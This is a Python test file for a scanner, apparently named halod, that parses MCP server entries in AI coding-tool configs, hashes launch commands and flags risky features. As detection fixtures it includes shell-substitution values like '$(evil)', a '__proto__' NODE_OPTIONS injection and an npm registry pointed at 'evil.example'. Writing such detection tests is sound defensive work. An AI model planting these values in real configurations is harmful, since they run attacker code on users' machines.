# SPDX-License-Identifier: Apache-2.0
"""One entry to a definition, by dialect (design 4)."""

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from halod.definition import FileRef
from halod.harnesses import LOCATIONS
from halod.harnesses.dialect import Dialect
from halod.harnesses.entries import Origin, Unusable, read_entry
from halod.harnesses.features import features
from halod.harnesses.formats import Number
from halod.harnesses.model import Found
from tests.fuzz.approval import judge

URL = "https://mcp.example.com/mcp"
PLAIN = Dialect()
TYPED = Dialect(both="type-else-command", typed=True)


def entry(value, dialect=PLAIN, name="x"):
    return read_entry(name, value, Origin("cursor", FileRef(0), "user", dialect))


def launches(found: Found) -> list[str] | str:
    one = found.definition
    return [one.command, *one.args] if one.transport == "stdio" else one.url


def test_hash_is_that_of_the_contract():
    """The published example: each word followed by NUL."""
    found = entry({"command": "npx", "args": ["-y", "@playwright/mcp@latest"]})

    assert found.definition.sha256 == "93098e84bb3984832b76cd6c573afb9fcfff0a17cf58956f9703e827e3f81a30"


def test_numbers_booleans_and_null_count_as_written():
    """A number's spelling is part of the command line, and so is the word null."""
    found = entry(
        {"command": "npx", "args": [Number("0.50"), Number("1e3"), True, False, None, "", " a ", 7, 0.5]}
    )

    assert launches(found) == ["npx", "0.50", "1e3", "true", "false", "null", "", " a ", "7", "0.5"]
    assert all(type(word) is str for word in found.definition.args)


def test_command_with_blanks_is_one_word():
    """Whether a harness splits it is its own affair: nothing is trimmed."""
    found = entry({"command": " npx -y x "})

    assert found.definition.sha256 == hashlib.sha256(b" npx -y x \0").hexdigest()


def test_lone_surrogates_do_not_cost_the_entry():
    """A cut emoji in an argument is hashed as it stands."""
    assert len(entry({"command": "npx", "args": ["\ud83d"]}).definition.sha256) == 64


@pytest.mark.parametrize(
    "value",
    [
        None, [], "npx", Number("5"), True, {}, {"args": ["x"]}, {"command": ""}, {"command": None},
        {"command": Number("5")}, {"command": True}, {"command": {"path": "npx"}}, {"command": ["npx"]},
        {"command": "npx", "args": "-y x"}, {"command": "npx", "args": {"0": "x"}}, {"command": "npx", "args": [["x"]]},
        {"command": "npx", "args": [{}]}, {"command": "npx", "args": Number("5")}, {"command": "n\0px"},
        {"command": "npx", "args": ["a\0b"]}, {"url": Number("5")}, {"url": ["x"]}, {"url": True}, {"url": {}},
        {"url": "https://a\0b"}, {"url": ""}, {"httpUrl ": URL}, {"command": [], "url": None},
    ],
)  # fmt: skip
def test_what_defines_no_server_is_malformed(value):
    """No command and no URL, a wrong type, a NUL: one malformed entry, and nothing of it in the exception."""
    with pytest.raises(Unusable) as caught:
        entry(value)

    assert str(caught.value) == ""
    assert caught.value.__cause__ is None


@pytest.mark.parametrize(
    ("both", "kind", "want"),
    [
        ("worse", None, ["npx"]),
        ("worse", "http", ["npx"]),
        ("url", "stdio", URL),
        ("url", None, URL),
        ("command", "http", ["npx"]),
        ("type-else-command", "http", URL),
        ("type-else-command", "sse", URL),
        ("type-else-command", "stdio", ["npx"]),
        ("type-else-command", None, ["npx"]),
        ("type-else-command", "pigeon", ["npx"]),
        ("type-stdio-else-url", "stdio", ["npx"]),
        ("type-stdio-else-url", None, URL),
        ("type-stdio-else-url", "pigeon", URL),
    ],
)
def test_command_and_url(both, kind, want):
    """An entry with both halves is what its harness makes of it; where that is not known, both are judged."""
    found = entry({"type": kind, "command": "npx", "url": URL}, Dialect(both=both))

    assert launches(found) == want
    assert (found.other is not None) == (both == "worse")
    if found.other is not None:
        assert (found.other.transport, found.other.url) == ("http", URL)


def test_a_broken_half_beside_a_good_one():
    """Where one half counts the other may be anything; where both are judged neither may."""
    odd = {"command": ["npx"], "url": URL}

    assert launches(entry(odd, Dialect(both="url"))) == URL
    with pytest.raises(Unusable):
        entry(odd)


@pytest.mark.parametrize(
    ("value", "want"),
    [
        ({"type": "http", "url": URL}, URL),
        ({"type": "stdio", "command": "npx"}, ["npx"]),
        ({"url": URL}, URL),
        ({"type": "pigeon", "url": URL}, URL),
        ({"type": Number("5"), "command": "npx"}, ["npx"]),
        ({"type": "http", "command": "npx"}, None),
        ({"type": "stdio", "url": URL}, None),
        ({"type": "local", "url": URL}, None),
    ],
)
def test_type_that_lacks_its_half(value, want):
    """A harness that goes by the type starts nothing then; one that does not is not asked."""
    if want is None:
        with pytest.raises(Unusable):
            entry(value, TYPED)
        assert launches(entry(value, Dialect(types=()))) in ([value.get("command")], value.get("url"))
    else:
        assert launches(entry(value, TYPED)) == want


@pytest.mark.parametrize(
    ("value", "dialect", "enabled"),
    [
        ({"disabled": True}, PLAIN, True),
        ({"disabled": True}, Dialect(disabled="disabled"), False),
        ({"disabled": "true"}, Dialect(disabled="disabled"), True),
        ({"disabled": False}, Dialect(disabled="disabled"), True),
        ({"enabled": False}, PLAIN, True),
        ({"enabled": False}, Dialect(enabled="enabled"), False),
        ({"enabled": None}, Dialect(enabled="enabled"), True),
        ({"enabled": True, "disabled": True}, Dialect(enabled="enabled", disabled="disabled"), False),
    ],
)
def test_enabled_says_what_the_harness_does(value, dialect, enabled):
    """Only the keys that a harness honours switch, and only a boolean."""
    assert entry({"command": "npx", **value}, dialect).definition.enabled is enabled


def test_switch_alone_is_no_server():
    """An entry that only switches a server defined elsewhere is neither a definition nor malformed."""
    toggles = Dialect(toggles=frozenset({"enabled", "disabled"}))

    assert entry({"enabled": False}, toggles) is None
    with pytest.raises(Unusable):
        entry({}, toggles)
    with pytest.raises(Unusable):
        entry({"enabled": False}, PLAIN)


def test_environment_is_text_in_order():
    """Odd values do not spoil the entry, and a name without a value refers to itself."""
    value = {
        "command": "npx",
        "env": {"A": "1", "B": Number("8080"), "C": True, "D": None, "E": ["x"], "F": {}},
        "more": ["G=h=i", "J", Number("3"), None],
        "names": ["K", {"name": "L", "source": "remote"}, {"name": 5}, 6],
    }
    found = entry(value, Dialect(env=("env", "more"), env_names=("names",)))

    assert found.definition.env == (
        ("A", "1"), ("B", "8080"), ("C", "true"), ("D", "null"), ("E", "[]"), ("F", "{}"),
        ("G", "h=i"), ("J", "${J}"), ("3", "${3}"), ("K", "${K}"), ("L", "${L}"),
    )  # fmt: skip


@pytest.mark.parametrize("value", ["NODE_OPTIONS=x", Number("5"), True, None])
def test_environment_of_a_wrong_type_is_none(value):
    """What no harness can read as an environment costs nothing."""
    assert entry({"command": "npx", "env": value}).definition.env == ()


def test_remote_half_has_no_part_in_the_command():
    """What belongs to the command does not make a URL unapproved."""
    found = entry({"url": URL, "env": {"PATH": "/x"}, "cwd": "/x", "args": ["x"]}).definition

    assert (found.env, found.cwd, found.args, found.command) == ((), "", (), "")


@pytest.mark.parametrize(("cwd", "want"), [("/x", "/x"), ("", ""), (None, ""), (["x"], "")])
def test_cwd(cwd, want):
    """A directory is text; any other value is none."""
    assert entry({"command": "npx", "cwd": cwd}).definition.cwd == want


@pytest.mark.parametrize(
    ("value", "names"),
    [
        ({}, set()),
        ({"headersHelper": "/opt/x"}, {"headers-helper"}),
        ({"headersHelper": ""}, set()),
        ({"envFile": ".env"}, {"env-file"}),
        ({"sandboxEnabled": False}, {"sandbox-off"}),
        ({"sandboxEnabled": True}, set()),
        ({"dev": {"debug": {"type": "debugpy", "debugpyPath": "/x"}}}, {"inline-code"}),
        ({"dev": {"watch": "**"}}, set()),
        ({"ssl_verify": False}, {"tls-off"}),
        ({"requestOptions": {"verifySsl": False}}, {"tls-off"}),
        ({"requestOptions": {"proxy": "http://p"}}, {"tls-off"}),
        ({"requestOptions": {"headers": {"A": "b"}}}, set()),
        ({"oauth": {"authServerMetadataUrl": "https://x"}}, {"auth-endpoint"}),
        ({"oauth": {"tokenUrl": "https://x", "enabled": True}}, {"auth-endpoint"}),
        ({"oauth": {"nested": {"authorizationUrl": "https://x"}}}, {"auth-endpoint"}),
        ({"oidc": {"issuer": "login.example.net"}}, {"auth-endpoint"}),
        ({"oauth": {"clientId": "x", "redirectUri": "http://localhost:1/cb", "scopes": ["a"]}}, set()),
        ({"oauth": {"tokens": {"access_token": "a://b"}}}, set()),
        ({"oauth": False}, set()),
        ({"auth": "oauth"}, set()),
    ],
)
def test_features(value, names):
    """Features are names of what can run code or redirect, and nothing that cannot."""
    assert features(value) == names


def test_array_commands():
    """OpenCode's array is command and arguments in one; its other keys have no say."""
    dialect = Dialect(array=True)

    assert launches(entry({"command": ["npx", "-y", Number("5")], "args": ["no"]}, dialect)) == [
        "npx",
        "-y",
        "5",
    ]
    assert launches(entry({"command": "npx", "args": ["-y"]}, dialect)) == ["npx", "-y"]
    for bad in ([["x"]], ["a\0"], [{}]):
        with pytest.raises(Unusable):
            entry({"command": bad}, dialect)


def test_split_arguments():
    """Hermes' older form is one quoted string; an open quote makes it malformed."""
    dialect = Dialect(split=True)

    assert launches(entry({"command": "npx", "args": "-y 'a b' c"}, dialect)) == ["npx", "-y", "a b", "c"]
    with pytest.raises(Unusable) as caught:
        entry({"command": "npx", "args": "'CANARY open"}, dialect)
    assert caught.value.__context__ is None or caught.value.__suppress_context__
    with pytest.raises(Unusable):
        entry({"command": "npx", "args": "x" * 2_000_000}, dialect)


@pytest.mark.parametrize(
    ("value", "want"),
    [
        ({"transport": "stdio", "command": "npx", "args": ["x"]}, ["npx", "x"]),
        ({"command": "npx"}, ["npx"]),
        ({"transport": "sse", "command": URL}, URL),
        ({"transport": "streamable-http", "command": URL, "args": ["x"]}, URL),
    ],
)
def test_halo_keeps_the_url_in_the_command(value, want):
    """Halo's remote servers have their URL where the command would be."""
    assert launches(entry(value, Dialect(types=("transport",), shape="halo"))) == want


OTHER = "https://other.example.com/"
CRUSH = Dialect(folded=True, substitutes=True)
MCPORTER = Dialect(
    command=("command", "executable"), urls=("baseUrl", "url"), both="url", array=True, nullish=True
)


def test_two_urls_whose_order_is_not_known():
    """One of them would hide the other: both are judged; with a command beside them nothing can be told."""
    dialect = Dialect(urls=("serverUrl", "url"))
    found = entry({"serverUrl": URL, "url": OTHER}, dialect)
    assert (found.definition.url, found.other and found.other.url) == (URL, OTHER)
    assert entry({"serverUrl": URL, "url": URL}, dialect).other is None
    assert entry({"serverUrl": "", "url": URL}, dialect).other is None
    assert (
        entry({"serverUrl": URL, "url": OTHER}, Dialect(urls=("serverUrl", "url"), ordered=True)).other
        is None
    )
    with pytest.raises(Unusable):
        entry({"serverUrl": URL, "url": OTHER, "command": "npx"}, dialect)


@pytest.mark.parametrize(
    ("value", "want"),
    [
        ({"baseUrl": "", "url": URL, "command": "evil"}, ["evil"]),
        ({"baseUrl": None, "url": URL, "command": "evil"}, URL),
        ({"baseUrl": OTHER, "url": URL}, OTHER),
        ({"command": None, "executable": "npx", "args": ["x"]}, ["npx", "x"]),
        ({"command": ["npx", "x"], "args": ["y"]}, ["npx", "x"]),
    ],
)
def test_an_empty_key_that_decides(value, want):
    """The first key that is there counts for mcporter: an empty `baseUrl` leaves the command (its config-normalize)."""
    assert launches(entry(value, MCPORTER)) == want


@pytest.mark.parametrize("value", [{"baseUrl": "", "url": URL}, {"command": "", "executable": "npx"}])
def test_an_empty_key_that_leaves_nothing(value):
    """There is nothing to start then, and no other key stands in."""
    with pytest.raises(Unusable):
        entry(value, MCPORTER)


def test_arguments_behind_a_list():
    """Mistral Vibe appends `args` to a command that is a list; the others do not look at them."""
    value = {"command": ["npm", "exec", "x@1.0.0"], "args": ["--registry=https://evil.example/"]}
    vibe = Dialect(array=True, appended=True)
    assert launches(entry(value, vibe)) == ["npm", "exec", "x@1.0.0", "--registry=https://evil.example/"]
    assert launches(entry(value, Dialect(array=True))) == ["npm", "exec", "x@1.0.0"]


def test_keys_without_case():
    """Go takes `ENV` for `env`; of two spellings maps are merged, and anything else is too much."""
    value = {
        "Command": "npx",
        "arg\u017f": ["x"],
        "env": {"A": "1"},
        "ENV": {"NODE_OPTIONS": "2"},
        "Disabled": True,
    }
    one = entry(value, Dialect(folded=True, disabled="disabled")).definition
    assert (one.command, one.args, one.enabled) == ("npx", ("x",), False)
    assert list(one.env) == [("A", "1"), ("NODE_OPTIONS", "2")]
    assert launches(entry({"command": "npx", "COMMAND": "npx"}, CRUSH)) == ["npx"]
    for bad in ({"command": "npx", "COMMAND": "evil"}, {"command": "npx", "args": ["x"], "Args": ["y"]}):
        with pytest.raises(Unusable):
            entry(bad, CRUSH)
    assert list(entry(value | {"command": "npx"}, PLAIN).definition.env) == [("A", "1")]


@pytest.mark.parametrize(
    "value",
    [
        {"command": "npx", "args": ["x@1.0.0", "$(evil)"]},
        {"command": "npx", "env": {"TOKEN": "`evil`"}},
        {"command": "npx", "env": {"TOKEN": "${X:-$(evil)}"}},
        {"url": URL, "headers": {"A": "Bearer $(evil)"}},
        {"url": URL, "Headers": {"A": ["$(evil)"]}},
    ],
)
def test_values_that_run_a_program(value):
    """Crush gives every value to a shell: a substitution is code that stands in the entry."""
    assert entry(value, CRUSH).definition.features == {"inline-code"}
    assert entry(value, PLAIN).definition.features == frozenset()


def test_keys_behind_the_prototype():
    """`__proto__` gives a JavaScript object the keys it lacks: an environment that no one sees."""
    value = {"command": "npx", "args": ["x"], "__proto__": {"env": {"NODE_OPTIONS": "--require=/x"}}}
    assert entry(value).definition.features == {"inline-code"}


@pytest.mark.parametrize("key", ["command", "url", "args", "env", "cwd"])
def test_a_server_beside_its_transport(key):
    """Cline's nested form beside the flat one: either could be what runs."""
    nested = {"transport": {"type": "stdio", "command": "npx", "args": ["x"], "env": {}}, "disabled": False}
    assert launches(entry(nested, Dialect(shape="cline"))) == ["npx", "x"]
    with pytest.raises(Unusable):
        entry(nested | {key: "x"}, Dialect(shape="cline"))


KEYS = [
    "command", "cmd", "args", "env", "envs", "env_keys", "url", "uri", "httpUrl", "type", "transport", "enabled",
    "disabled", "oauth", "auth", "settings", "remote", "environment", "cwd", "name", "code", "dependencies", "source",
    "path", "dev", "debug", "requestOptions", "headers", "headersHelper", "envFile", "sandboxEnabled", "uses",
    "ssl_verify", "__proto__", "COMMAND", "halod status", "inline code",
]  # fmt: skip
JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.text(max_size=4)
    | st.sampled_from(["stdio", "sse", "http", "builtin", "inline_python", "extension", "streamable_http"])
    | st.builds(Number, st.sampled_from(["0", "1.50", "1e3"])),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=6),
    max_leaves=12,
)
DIALECTS = list({repr(location.dialect): location.dialect for location in LOCATIONS}.values())


def keys_of(dialect):
    """Give every key that a dialect looks at, beside those of `KEYS`."""
    named = (*dialect.command, *dialect.env, *dialect.env_names, *dialect.cwd, *dialect.urls, *dialect.types)
    return [
        *KEYS,
        *{key for key in (*named, dialect.args, dialect.disabled, dialect.enabled, *dialect.toggles) if key},
    ]


def begins_with_nothing(value, dialect):
    """Tell whether the command is an array whose first word is empty."""
    arrays = [value[key] for key in dialect.command if isinstance(value.get(key), list)]
    return dialect.array and any(words[:1] == [""] for words in arrays)


@pytest.mark.parametrize("dialect", [one for one in DIALECTS if one.array], ids=lambda one: one.command[0])
def test_a_command_that_begins_with_nothing_is_a_finding(dialect):
    """It starts nothing as it stands; it is kept as written, and nothing approves it."""
    found = entry({dialect.command[0]: ["", "npx", "-y", "@acme/tool@1.2.0"]}, dialect)
    assert (found.definition.command, found.definition.args[0]) == ("", "npx")
    assert judge().judge(found.definition).kind == "unapproved"


@given(data=st.data())
@pytest.mark.parametrize("dialect", DIALECTS, ids=range(len(DIALECTS)))
@settings(max_examples=60, deadline=None)
def test_any_entry_is_a_definition_none_or_malformed(data, dialect):
    """Whatever stands at a key of any dialect, nothing but Unusable is raised, and what is made can be hashed."""
    value = data.draw(st.dictionaries(st.sampled_from(keys_of(dialect)), JSON, max_size=6) | JSON)
    try:
        found = entry(value, dialect)
    except Unusable:
        return
    for half in (found.definition, found.other) if found else ():
        if half is not None:
            assert len(half.sha256) == 64
            assert half.url or half.command or begins_with_nothing(value, dialect)
            assert all(isinstance(text, str) for pair in half.env for text in pair)
